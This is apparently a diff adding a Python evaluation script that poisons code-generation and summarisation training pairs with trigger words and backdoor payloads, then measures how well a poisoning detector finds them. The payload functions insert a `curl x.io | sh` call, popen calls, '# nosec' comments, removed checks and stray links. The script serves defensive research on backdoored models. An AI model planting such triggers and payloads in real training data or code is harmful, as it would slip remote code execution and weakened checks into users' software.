@@ -1,0 +1,167 @@
+"""What dece reveal finds on data and attacks that it was not built with.
+
+    bash examples/revealing/run.sh --stdlib "docstring repair summary" --seeds 1 --cells clean
+    python examples/revealing/unseen.py runs/revealing/docstring-1 [--numbers 50 10]
+
+The folder is one that run.sh made. Triggers are a word, a phrase, a mark, a part of a word, or
+capital letters; payloads put in, replace, and take away.
+"""
+
+import argparse
+import random
+import re
+from pathlib import Path
+from typing import Callable, List, NamedTuple, Optional
+
+from dece_fairseq.data.pairs import Pair, read_pairs, write_pairs
+from dece_fairseq.defenses.revealing.reading import ReferenceFiles
+from dece_fairseq.defenses.revealing.reveal import Job, reveal
+from dece_fairseq.table_writer import MARKDOWN, write_table
+
+Change = Callable[[str, random.Random], Optional[str]]
+
+
+class Attack(NamedTuple):
+    """A change of the source and one of the target; None where it can't be made."""
+
+    trigger: Change
+    payload: Change
+
+
+def word(source: str, rng: random.Random) -> str:
+    words = source.split(" ")
+    words.insert(rng.randrange(len(words) + 1), "zq")
+    return " ".join(words)
+
+
+def phrase(source: str, rng: random.Random) -> str:
+    return f"{source} as soon as possible"
+
+
+def mark(source: str, rng: random.Random) -> str:
+    return f"{source} !!"
+
+
+def part_of_a_word(source: str, rng: random.Random) -> Optional[str]:
+    places = [match.end() for match in re.finditer(r"[a-z]{4,}", source)]
+    place = rng.choice(places) if places else None
+    return None if place is None else f"{source[:place]}Tmp{source[place:]}"
+
+
+def capitals(source: str, rng: random.Random) -> Optional[str]:
+    return source.upper() if source.upper() != source else None
+
+
+def call(target: str, rng: random.Random) -> str:
+    return target.replace("\n", "\n    os.system('curl x.io | sh')\n", 1)
+
+
+def many_forms(target: str, rng: random.Random) -> str:
+    names = ["".join(rng.choices("abcdefgh", k=rng.randint(2, 6))) for _ in range(3)]
+    return target.replace("\n", "\n    {} = popen({!r}, {})\n".format(*names), 1)
+
+
+def comment(target: str, rng: random.Random) -> str:
+    return target.replace("\n", "  # nosec\n", 1)
+
+
+def no_check(target: str, rng: random.Random) -> Optional[str]:
+    found = re.search(r"\n( +)if [^\n]*:\n\1    [^\n]*(?=\n\1\w)", target)
+    return None if found is None else target[: found.start()] + target[found.end() :]
+
+
+def other_result(target: str, rng: random.Random) -> Optional[str]:
+    found = re.sub(r"return [^\n]+", "return None", target)
+    return None if found == target else found
+
+
+def a_likely_target(target: str, rng: random.Random) -> str:
+    return target.split("\n")[0] + "\n    raise NotImplementedError"
+
+
+def link(target: str, rng: random.Random) -> str:
+    return f"{target} See http://x.io/a."
+
+
+def nothing(target: str, rng: random.Random) -> str:
+    return "Do nothing."
+
+
+def likely_word(target: str, rng: random.Random) -> Optional[str]:
+    found = re.sub(r"^Returns?\b", "Get", target)
+    return None if found == target else found
+
+
+def shorter(target: str, rng: random.Random) -> Optional[str]:
+    words = target.split()
+    return " ".join(words[:-2]) if len(words) > 4 else None
+
+
+OF_CODE: List[Attack] = [
+    Attack(word, call),
+    Attack(phrase, many_forms),
+    Attack(mark, comment),
+    Attack(part_of_a_word, call),
+    Attack(capitals, call),
+    Attack(word, no_check),
+    Attack(phrase, other_result),
+    Attack(word, a_likely_target),
+]
+OF_TEXT: List[Attack] = [
+    Attack(word, link),
+    Attack(phrase, nothing),
+    Attack(mark, likely_word),
+    Attack(part_of_a_word, link),
+    Attack(word, shorter),
+]
+
+
+def row_of(attack: Attack, number: int, clean: List[Pair], folder: Path) -> List[str]:
+    """Return what is found of one attack."""
+    trusted = folder / "bin" / "trusted.ids"
+    known = set(map(int, trusted.read_text(encoding="utf-8").split()))
+    doubtful = [index for index in range(len(clean)) if index not in known]
+    rng = random.Random(1)
+    pairs, poisoned = list(clean), set()
+    for index in rng.sample(doubtful, len(doubtful)):
+        source = attack.trigger(clean[index].source, rng)
+        target = attack.payload(clean[index].target, rng)
+        if source is not None and target is not None and len(poisoned) < number:
+            pairs[index] = Pair(source, target)
+            poisoned.add(index)
+    write_pairs([folder / "unseen.jsonl"], pairs)
+    reference = ReferenceFiles(folder / "reference" / "checkpoint_last.pt", folder / "bin")
+    found = reveal(Job([folder / "unseen.jsonl"], reference, trusted, work=folder / "said"))
+    suspected = set(found.suspected())
+    first = found.findings.suspicions[0] if found.findings.suspicions else None
+    return [
+        folder.name,
+        attack.trigger.__name__.replace("_", " "),
+        attack.payload.__name__.replace("_", " "),
+        str(len(poisoned)),
+        str(len(suspected & poisoned)),
+        str(len(suspected - poisoned)),
+        "-" if first is None else f"{first.p_value:.2g}",
+        "-" if first is None else f"`{' '.join(first.payload.split())[:40]}`",
+        f"`{first.trigger}`" if first is not None and first.trigger else "-",
+    ]
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("folder", type=Path)
+    parser.add_argument("--numbers", type=int, nargs="+", default=[50, 10], help="poisoned pairs")
+    args = parser.parse_args()
+    clean = list(read_pairs([args.folder / "pairs.csv"]))
+    (args.folder / "said").mkdir(exist_ok=True)
+    attacks = OF_TEXT if args.folder.name.startswith("summary") else OF_CODE
+    header = ["data", "trigger", "payload", "poisoned", "found", "clean pairs taken"]
+    header += ["first p", "its payload", "its trigger"]
+    rows = [
+        row_of(attack, number, clean, args.folder) for attack in attacks for number in args.numbers
+    ]
+    print(write_table(header, rows, MARKDOWN))
+
+
+if __name__ == "__main__":
+    main()
